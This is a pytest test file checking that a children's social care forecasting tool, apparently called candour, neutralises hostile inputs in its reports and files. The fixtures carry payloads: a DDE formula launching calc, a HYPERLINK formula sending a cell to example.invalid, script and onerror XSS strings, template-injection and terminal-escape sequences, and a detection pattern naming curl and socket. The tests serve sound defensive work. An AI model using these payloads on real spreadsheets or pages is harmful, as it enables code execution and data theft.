"""Ids, codes, texts, titles and file names made to do harm: nothing that candour writes lets them do any."""

import csv
import json
import re
import sqlite3
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pyarrow.parquet as pq
import pytest

from candour.data.synthetic.authority import synthesise_authority
from hostile_files import CONTROLS, FORMULAS, MARKUP
from inert_text import find_active_parts, starts_a_formula, steers

OWN_IDS = re.compile(r"S\d{7}")
TEXTS = (*FORMULAS, *MARKUP, *CONTROLS)
# Few, so that each is common enough to become a feature of the forecast.
FEATURES = (FORMULAS[0], MARKUP[0], f"{CONTROLS[0]}$x^{{$")
LOCAL = "=cmd|'calc'!A0 <img src=x onerror=alert(1)> \x1b[31m\u202e {{7*7}}"
TITLE = '=HYPERLINK("http://example.invalid")<script>alert(1)</script>{{7*7}}$x^{$'
CONFIG = """
version: 1
name: injection
seed: 7
extracts:
  dfe_api: [authority/dfe_api]
  families: families.csv
  event_tables:
    - path: LOCAL.csv
      taken_on: 2026-03-31
      kind: local_event
      child_id: child
      started_on: day
      details: {local_code: code}
  documents: {path: texts.csv, child_id: child, written_on: day, text: text, kind: kind}
question:
  decision_point: referral_received
  outcome: {kinds: [cp_plan, care_episode], within_days: 180}
features:
  families:
    - {family: age}
    - {family: count, events: [referral], windows: [365]}
    - {family: current_code, fields: [referral_source]}
split: {name: earlier_cases, test_days: 365, folds: 2}
models:
  candidates:
    - {name: logistic_regression, strengths: [0.1], l1_shares: [0.0]}
protocol:
  criteria:
    - {metric: auc, at_least: 0.6, reason: REASON}
  replicates: 100
report:
  title: TITLE
  purpose: REASON
"""


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A synthetic authority whose children, codes, texts and files are called as an attacker would call them."""
    at = tmp_path_factory.mktemp("injection")
    synthesise_authority(
        directory=at / "authority", children=1000, years=5, seed=3, last_year=2026, formats=("dfe_api",)
    )
    (path,) = (at / "authority" / "dfe_api").glob("*.json")
    records = json.loads(path.read_text(encoding="utf-8"))
    for place, record in enumerate(records):
        record["la_child_id"] = TEXTS[place % len(TEXTS)].strip() + record["la_child_id"]
        for episode in record.get("social_care_episodes", ()):
            episode["referral_source"] = FEATURES[place % len(FEATURES)]
    path.write_text(json.dumps(records), encoding="utf-8")
    ids = [record["la_child_id"] for record in records]
    write_rows(
        at / f"{LOCAL}.csv",
        [
            ("child", "day", "code"),
            *((child, f"2023-0{1 + n % 9}-11", TEXTS[n % len(TEXTS)]) for n, child in enumerate(ids)),
        ],
    )
    write_rows(
        at / "texts.csv",
        [
            ("child", "day", "kind", "text"),
            *(
                (child, "2023-05-11", TEXTS[n % 9], f"{TEXTS[n % 17]} of {child}")
                for n, child in enumerate(ids)
            ),
        ],
    )
    write_rows(
        at / "families.csv",
        [("child_id", "family_id"), *((child, f"=1+{n // 2}") for n, child in enumerate(ids))],
    )
    config = CONFIG.replace("LOCAL.csv", json.dumps(f"{LOCAL}.csv")).replace("TITLE", json.dumps(TITLE))
    (at / "injection.yaml").write_text(config.replace("REASON", json.dumps(f"{TITLE} \x1b[31m")))
    return at


def write_rows(path: Path, rows: list[tuple[str, ...]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream, quoting=csv.QUOTE_ALL).writerows(rows)


@pytest.fixture(scope="module")
def ran(folder: Path, guarded: Any) -> Any:
    # A PDF is printed from its page, which is read here.
    return guarded(folder, "run", "injection.yaml", "--no-pdf")


@pytest.mark.parametrize(("command", "options"), [("history", ()), ("check", ()), ("check", ("--json",))])
def test_the_terminal_and_programs_read_letters(
    folder: Path, guarded: Any, ran: Any, command: str, options: tuple[str, ...]
) -> None:
    done = guarded(folder, command, "injection.yaml", *options)
    assert done.code == 0, done.stderr
    assert not steers(done.stdout + done.stderr)
    assert not OWN_IDS.search(done.stdout + done.stderr)
    if options:
        assert json.loads(done.stdout)["name"] == "injection"


def test_the_history_holds_every_child_and_code_as_it_was_written(folder: Path, ran: Any) -> None:
    history = next((folder / "histories").iterdir())
    children = pq.read_table(history / "children")["child_id"].to_pylist()
    codes = set(
        pq.read_table(history / "details", filters=[("field", "=", "local_code")])["code"].to_pylist()
    )
    assert len(children) == 1000
    assert '=HYPERLINK("HTTP://EXAMPLE.INVALID/?"&A1,"OPEN")' in codes
    assert len(codes) == len({text.strip().upper() for text in TEXTS} - {""})


def test_a_run_ends_well_and_prints_letters(ran: Any) -> None:
    assert ran.code == 0, ran.stderr
    assert not steers(ran.stdout + ran.stderr)
    assert not re.search("socket|calc|curl|sh$", ran.touched)


def test_the_report_runs_nothing(folder: Path, ran: Any) -> None:
    report = folder / "reports" / "injection"
    page = (report / "report.html").read_text(encoding="utf-8")
    assert find_active_parts(page) == []
    assert not steers(page)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;{{7*7}}" in page
    tables = list((report / "tables").iterdir())
    assert tables
    assert [path.name for path in tables if starts_a_formula(path.read_bytes())] == []
    findings = (report / "findings.json").read_text(encoding="utf-8")
    assert json.loads(findings)["context"]["title"] == TITLE
    assert not steers(findings)


def test_no_other_document_runs_anything_and_none_is_unlisted(folder: Path, ran: Any) -> None:
    report = folder / "reports" / "injection"
    listed = {entry["name"] for entry in json.loads((report / "manifest.json").read_bytes())["files"]}
    found = {path.relative_to(report).as_posix() for path in report.rglob("*") if path.is_file()}
    assert found == listed | {"manifest.json", "everything.zip"}
    pages = [path.read_text(encoding="utf-8") for path in report.rglob("*.html")]
    assert len(pages) > 10
    # A standard is cited by an address that a reader may follow; nothing that came with the data may be one.
    cited = re.compile(
        r'<a href="https://(doi\.org|osr\.statisticsauthority\.gov\.uk|www\.legislation\.gov\.uk|www\.turing\.ac\.uk)/'
    )
    assert [part for page in pages for part in find_active_parts(page) if not cited.match(part)] == []
    assert not any(steers(page) for page in pages)
    with ZipFile(report / "standards" / "atrs-v4.xlsx") as workbook:
        assert not any(b"<f>" in workbook.read(name) for name in workbook.namelist())
    with ZipFile(report / "report.docx") as word:
        relations = [word.read(name) for name in word.namelist() if name.endswith(".rels")]
    assert relations
    assert not any(b"example.invalid" in content for content in relations)


def test_no_child_is_in_the_report_or_the_store(folder: Path, ran: Any) -> None:
    for path in (*(folder / "reports").rglob("*"), *(folder / "mlruns").rglob("*")):
        if path.is_file() and path.suffix not in (".db", ".parquet"):
            assert not OWN_IDS.search(path.read_bytes().decode("latin-1")), path.name
    with sqlite3.connect(folder / "mlruns" / "mlflow.db") as connection:
        stored = "\n".join(connection.iterdump())
        (title,) = connection.execute(
            "select distinct value from params where key = 'report.title'"
        ).fetchone()
    assert not OWN_IDS.search(stored)
    assert title == TITLE
